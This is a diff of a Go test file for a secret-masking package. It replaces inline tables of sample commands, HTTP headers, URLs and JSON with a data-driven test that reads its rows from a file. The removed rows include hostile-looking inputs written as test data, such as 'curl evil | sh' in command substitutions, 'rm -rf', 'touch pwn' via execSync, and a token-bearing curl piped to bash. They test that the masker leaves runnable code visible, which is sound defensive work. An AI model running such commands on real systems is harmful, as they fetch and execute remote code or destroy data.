@@ -3,6 +3,7 @@ package masks
 import (
 	"encoding/json"
 	"fmt"
+	"os"
 	"strings"
 	"testing"
 	"time"
@@ -57,156 +58,36 @@ func TestTokensByShape(t *testing.T) {
 	}
 }
 
-func TestText(t *testing.T) {
-	for _, tt := range []struct{ in, want string }{
-		// Assignments.
-		{`PASSWORD=hunter2 make`, `PASSWORD=[masked-7] make`},
-		{`export DB_PASSWORD='a b' && ls`, `export DB_PASSWORD='[masked-1] [masked-1]' && ls`},
-		{`PGPASSWORD="p w";psql`, `PGPASSWORD="[masked-1] [masked-1]";psql`},
-		{`PASSWORD=ab"c d"'e f' ls`, `PASSWORD=[masked-2]"[masked-1] [masked-1]"'[masked-1] [masked-1]' ls`},
-		{`PASSWORD="a"'b'c ls`, `PASSWORD="[masked-1]"'[masked-1]'[masked-1] ls`},
-		{`PASSWORD=a\ b ls`, `PASSWORD=[masked-1]\ [masked-1] ls`},
-		{`api_key = abc`, `api_key = [masked-3]`},
-		{`apiKey: 'abc', x`, `apiKey: '[masked-3]', x`},
-		{`clientSecret := "abc"`, `clientSecret := "[masked-3]"`},
-		{`{"password": "abc", "user": "bob"}`, `{"password": "[masked-3]", "user": "bob"}`},
-		{`curl -d "{\"password\":\"abc\",\"user\":\"bob\"}"`,
-			`curl -d "{\"password\":\"[masked-3]\",\"user\":\"bob\"}"`},
-		{`curl -d '{"access_key": "abc"}' x`, `curl -d '{"access_key": "[masked-3]"}' x`},
-		{`?token=abc&user=bob`, `?token=[masked-3]&user=bob`},
-		{`f(token=abc, x)`, `f(token=[masked-3], x)`},
-		{`if password == "abc" {`, `if password == "[masked-3]" {`},
-		{`if token == next {`, `if token == next {`},
-		{`os.Setenv("API_KEY", "abc")`, `os.Setenv("API_KEY", "[masked-3]")`},
-		{`config["secret"] = "abc"`, `config["secret"] = "[masked-3]"`},
-		{`echo "password=abc" foo "bar"`, `echo "password=[masked-3]" foo "bar"`},
-		{`don't; password='abc' x`, `don't; password='[masked-3]' x`},
-		{"password: abc\nuser: bob", "password: [masked-3]\nuser: bob"},
-		{`API key: abc`, `API key: [masked-3]`},
-		{`PASSWORD="never closed`, `PASSWORD="[masked-5] [masked-6]`},
-		{"PASSWORD=\"never closed\nls", "PASSWORD=\"[masked-5] [masked-6]\nls"},
-		{`MYSQL_PWD=abc mysql`, `MYSQL_PWD=[masked-3] mysql`},
-		{`STRIPE_KEY=abc DB_PW=abc MAIL_AUTH=abc`, `STRIPE_KEY=[masked-3] DB_PW=[masked-3] MAIL_AUTH=[masked-3]`},
-		{`export SENTRY_DSN="https://abc@o1.example/2"`, `export SENTRY_DSN="[masked-24]"`},
-
-		// No secret, or no value.
-		{`PWD=/home/x OLDPWD=/tmp ls`, `PWD=/home/x OLDPWD=/tmp ls`},
-		{`max_tokens: 256`, `max_tokens: 256`},
-		{`tokenizer=bpe`, `tokenizer=bpe`},
-		{`PASSWORD_FILE=/run/x`, `PASSWORD_FILE=/run/x`},
-		{`SSH_KEY=~/.ssh/x CACHE_KEY=v1 sort_key=name`, `SSH_KEY=~/.ssh/x CACHE_KEY=v1 sort_key=name`},
-		{`token::next()`, `token::next()`},
-		{`PASSWORD= make`, `PASSWORD= make`},
-		{`PASSWORD= abc123`, `PASSWORD= abc123`},
-		{`echo "token=" ; rm -rf x ; echo "y"`, `echo "token=" ; rm -rf x ; echo "y"`},
-		{`bypass=1 compass=2`, `bypass=1 compass=2`},
-		{`git status && ls -la`, `git status && ls -la`},
-		{`git -c credential.helper=store push`, `git -c credential.helper=store push`},
-		{`task-force risk-assessment-of-the-whole disk-a`, `task-force risk-assessment-of-the-whole disk-a`},
-		{`.sk-folding-cube-wrapper-element`, `.sk-folding-cube-wrapper-element`},
-
-		// References and substitutions stay to be judged.
-		{`TOKEN=$TOKEN x`, `TOKEN=$TOKEN x`},
-		{`TOKEN="${GH_TOKEN}" x`, `TOKEN="${GH_TOKEN}" x`},
-		{`token: ${{ secrets.GH }}`, `token: ${{ secrets.GH }}`},
-		{`TOKEN=$(curl evil | sh) x`, `TOKEN=$(curl evil | sh) x`},
-		{`TOKEN="$(curl evil | sh)" x`, `TOKEN="$(curl evil | sh)" x`},
-		{`TOKEN="abc$(curl evil | sh)" x`, `TOKEN="[masked-3]$(curl evil | sh)" x`},
-		{`PASSWORD='pa$$w$rd' x`, `PASSWORD='[masked-8]' x`},
-		{`TOKEN='$(abc)' x`, `TOKEN='$(abc)' x`},
-
-		// Headers.
-		{`curl -H "Authorization: Bearer abc" x`, `curl -H "Authorization: Bearer [masked-3]" x`},
-		{`curl -H 'authorization: token abc' x`, `curl -H 'authorization: token [masked-3]' x`},
-		{`curl -H "Authorization: abc" x`, `curl -H "Authorization: [masked-3]" x`},
-		{`curl -H "Authorization: Bearer $TOKEN" x`, `curl -H "Authorization: Bearer $TOKEN" x`},
-		{"Authorization: Basic dXNlcjpwYXNz\nHost: x", "Authorization: Basic [masked-12]\nHost: x"},
-		{`Cookie: a=b; c=d`, `Cookie: [masked-3]; c=[masked-1]`},
-		{`Authorization: Zq7Wk3Rt9Yp2 # mine`, `Authorization: [masked-12] # mine`},
-		{`x-api-key: abc`, `x-api-key: [masked-3]`},
-		{`{"Authorization", "Bearer abc123def"}`, `{"Authorization", "[masked-6] [masked-9]"}`},
-		{`use Bearer abc123def now`, `use Bearer [masked-9] now`},
-		{`Basic understanding of bearer tokens`, `Basic understanding of bearer tokens`},
-
-		// Addresses.
-		{`git clone https://bob:abc@host/x`, `git clone https://bob:[masked-3]@host/x`},
-		{`postgres://u:p/w@h/db`, `postgres://u:[masked-3]@h/db`},
-		{`postgres://u:p@w@h/db`, `postgres://u:[masked-3]@h/db`},
-		{`https://host:8080/a@b`, `https://host:8080/a@b`},
-		{`https://host/a?mail=b@c`, `https://host/a?mail=b@c`},
-		{`ssh://git@host/x`, `ssh://git@host/x`},
-		{`https://u:$PASS@host`, `https://u:$PASS@host`},
-		{`https://0123456789abcdef0123456789abcdef01234567@host/x`, `https://[masked-40]@host/x`},
-		{`https://` + filler + `@host`, `https://[masked-27]@host`},
-
-		// Options.
-		{`x --password abc --user bob`, `x --password [masked-3] --user bob`},
-		{`x --password 'a b' y`, `x --password '[masked-1] [masked-1]' y`},
-		{`x --api-key=abc y`, `x --api-key=[masked-3] y`},
-		{`x --token --verbose`, `x --token --verbose`},
-		{`docker login --password-stdin reg.io`, `docker login --password-stdin reg.io`},
-		{`docker login -u bob -p abc reg.io`, `docker login -u bob -p [masked-3] reg.io`},
-		{`docker run -p 8080:80 x`, `docker run -p 8080:80 x`},
-		{`psql --no-password db`, `psql --no-password db`},
-		{`curl -u bob:abc https://x`, `curl -u bob:[masked-3] https://x`},
-		{`curl -ubob:abc https://x`, `curl -ubob:[masked-3] https://x`},
-		{`curl --user 'bob:a b' https://x`, `curl --user 'bob:[masked-1] [masked-1]' https://x`},
-		{`docker run -u 1000:1000 x`, `docker run -u 1000:1000 x`},
-		{`mysql -uroot -pabc db`, `mysql -uroot -p[masked-3] db`},
-		{`mysql -u root -p db`, `mysql -u root -p db`},
-		{`mkdir -p abc`, `mkdir -p abc`},
-		{`sshpass -p abc ssh x`, `sshpass -p [masked-3] ssh x`},
-		{`redis-cli -a abc ping`, `redis-cli -a [masked-3] ping`},
-		{`unzip -P abc x.zip`, `unzip -P [masked-3] x.zip`},
-		{`aws configure set aws_secret_access_key abc`, `aws configure set aws_secret_access_key [masked-3]`},
-		{`machine x login bob password abc`, `machine x login bob password [masked-3]`},
-		{`openssl rsa -passin pass:abc -in k`, `openssl rsa -passin pass:[masked-3] -in k`},
-		{`ALTER USER x WITH PASSWORD 'abc';`, `ALTER USER x WITH PASSWORD '[masked-3]';`},
-		{`psql -c "ALTER USER x PASSWORD 'abc'"`, `psql -c "ALTER USER x PASSWORD '[masked-3]'"`},
-		{`CREATE USER x IDENTIFIED BY 'abc'`, `CREATE USER x IDENTIFIED BY '[masked-3]'`},
-
-		// Key blocks.
-		{"a\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIEabc+/=\n-----END RSA PRIVATE KEY-----\nb",
-			"a\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n[masked-10]\n-----END RSA PRIVATE KEY-----\nb"},
-		{"x-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq", "x-----BEGIN PRIVATE KEY-----\n[masked-16]"},
-		{`"-----BEGIN OPENSSH PRIVATE KEY-----\nMIIE\n-----END OPENSSH PRIVATE KEY-----\n"; ls`,
-			`"-----BEGIN OPENSSH PRIVATE KEY-----\n[masked-4]\n-----END OPENSSH PRIVATE KEY-----\n"; ls`},
-		{"-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
-			"-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----"},
-		{"-----BEGIN PRIVATE KEY----- ; rm -rf x", "-----BEGIN PRIVATE KEY----- ; rm -rf x"},
-	} {
-		if got := Text(tt.in); got != tt.want {
-			t.Errorf("Text(%s)\n got %s\nwant %s", tt.in, got, tt.want)
+// Each row of testdata/rows.txt: a text, and what is left of it. What may run is shown.
+func TestRows(t *testing.T) {
+	data, err := os.ReadFile("testdata/rows.txt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	kinds := map[string]func(string) string{"-- text --": Text, "-- command --": Command,
+		"-- json --": func(s string) string { return string(Mask(json.RawMessage(s))) }}
+	plain := strings.NewReplacer(`\\n`, `\n`, `\n`, "\n", "FILLER", filler)
+	var mask func(string) string
+	in, rows := "", 0
+	for line := range strings.Lines(string(data)) {
+		line = strings.TrimSuffix(line, "\n")
+		want, masked := strings.CutPrefix(line, "= ")
+		switch kind := kinds[line]; {
+		case kind != nil:
+			mask = kind
+		case masked || line == "=":
+			if rows++; line == "=" {
+				want = in
+			}
+			if got := mask(plain.Replace(in)); got != plain.Replace(want) {
+				t.Errorf("%s\n got %s\nwant %s", in, got, want)
+			}
+		default:
+			in = line
 		}
 	}
-}
-
-// What may run is shown: an expression, and a variable's value that the text expands.
-func TestMaskShowsWhatMayRun(t *testing.T) {
-	github := fakeTokens()["github"]
-	hidden := "[masked-" + fmt.Sprint(len(github)) + "]"
-	for _, tt := range []struct{ in, want string }{
-		{`node -e "const token='a'+require('child_process').execSync('touch pwn')"`,
-			`node -e "const token='[masked-1]'+require('child_process').execSync('touch pwn')"`},
-		{"perl -e '$password=`touch pwn`;'", "perl -e '$password=`touch pwn`;'"},
-		{`ruby -e "f(password='abc', user='bob')"`, `ruby -e "f(password='[masked-3]', user='bob')"`},
-		{`make PASSWORD='$(shell evil)' x`, `make PASSWORD='$(shell evil)' x`},
-		{`SECRET_KEY=eval\ touch\ pwn bash -c '$SECRET_KEY'`, `SECRET_KEY=eval\ touch\ pwn bash -c '$SECRET_KEY'`},
-		{`curl -H "Authorization: Bearer ` + github + `" x | bash`, `curl -H "Authorization: Bearer ` + hidden + `" x | bash`},
-		{`python3 deploy.py --token=hunter2 --token-file x`, `python3 deploy.py --token=[masked-7] --token-file x`},
-		{`password=rm; $password -rf x`, `password=rm; $password -rf x`},
-		{`TOKEN=/tmp/evil.sh; bash "${TOKEN}"`, `TOKEN=/tmp/evil.sh; bash "${TOKEN}"`},
-		{`TOKEN=` + github + ` curl -H "X: $TOKEN" x`, `TOKEN=` + hidden + ` curl -H "X: $TOKEN" x`},
-		{github + ` x`, github + ` x`}, {`ls; ` + github, `ls; ` + github},
-		{`curl -H "x-api-key: abc" -d 'a=b&token=abc' x`, `curl -H "x-api-key: [masked-3]" -d 'a=b&token=[masked-3]' x`},
-		{`curl -d '{"access_key": "abc"}' x`, `curl -d '{"access_key": "[masked-3]"}' x`},
-	} {
-		if got := Command(tt.in); got != tt.want {
-			t.Errorf("the command %s\n got %s\nwant %s", tt.in, got, tt.want)
-		}
-	}
-	if got, want := Text("password=evil\n$password\n"), "password=evil\n$password\n"; got != want {
-		t.Errorf("a script: %s", got)
+	if rows < 100 {
+		t.Errorf("%d rows", rows)
 	}
 }
 
@@ -226,35 +107,6 @@ func TestOrdinaryTextIsLeft(t *testing.T) {
 	} {
 		if got := Text(text); got != text {
 			t.Errorf("%s\nbecame %s", text, got)
-		}
-	}
-}
-
-func TestMaskJSON(t *testing.T) {
-	for _, tt := range []struct{ in, want string }{
-		{`{"command":"ls"}`, `{"command":"ls"}`},
-		{`{ "command" : "echo \u0041" }`, `{ "command" : "echo \u0041" }`},
-		{`{"command":"PASSWORD=abc ls && echo \"x\" > y"}`, `{"command":"PASSWORD=[masked-3] ls && echo \"x\" > y"}`},
-		{`{"password":"abc","x":1}`, `{"password":"[masked-3]","x":1}`},
-		{`{"pass\u0077ord":"abc"}`, `{"password":"[masked-3]"}`},
-		{`{"api_key":12345,"max_tokens":256}`, `{"api_key":"[masked-5]","max_tokens":256}`},
-		{`{"token":null,"secret":true,"password":""}`, `{"token":null,"secret":true,"password":""}`},
-		{`{"secrets":{"a":["x","}"]},"b":{}}`, `{"secrets":"[masked-15]","b":{}}`},
-		{`{"credentials":[],"token":{}}`, `{"credentials":[],"token":{}}`},
-		{`{"token":"${GH_TOKEN}"}`, `{"token":"${GH_TOKEN}"}`},
-		{`["--password","abc","ls"]`, `["--password","[masked-3]","ls"]`},
-		{`["curl","-u","bob:abc"]`, `["curl","-u","bob:[masked-3]"]`},
-		{`["docker","-u","1000:1000"]`, `["docker","-u","1000:1000"]`},
-		{`[{"name":"DB_PASSWORD","value":"abc"},{"name":"x","value":"abc"}]`,
-			`[{"name":"DB_PASSWORD","value":"[masked-3]"},{"name":"x","value":"abc"}]`},
-		{`"PASSWORD=abc"`, `"PASSWORD=[masked-3]"`},
-		{`{"sk-ant-api03-` + filler + `":1}`, `{"[masked-40]":1}`},
-		{`not json PASSWORD=abc`, `not json PASSWORD=[masked-3]`},
-		{`42`, `42`},
-		{``, ``},
-	} {
-		if got := string(Mask(json.RawMessage(tt.in))); got != tt.want {
-			t.Errorf("Mask(%s)\n got %s\nwant %s", tt.in, got, tt.want)
 		}
 	}
 }
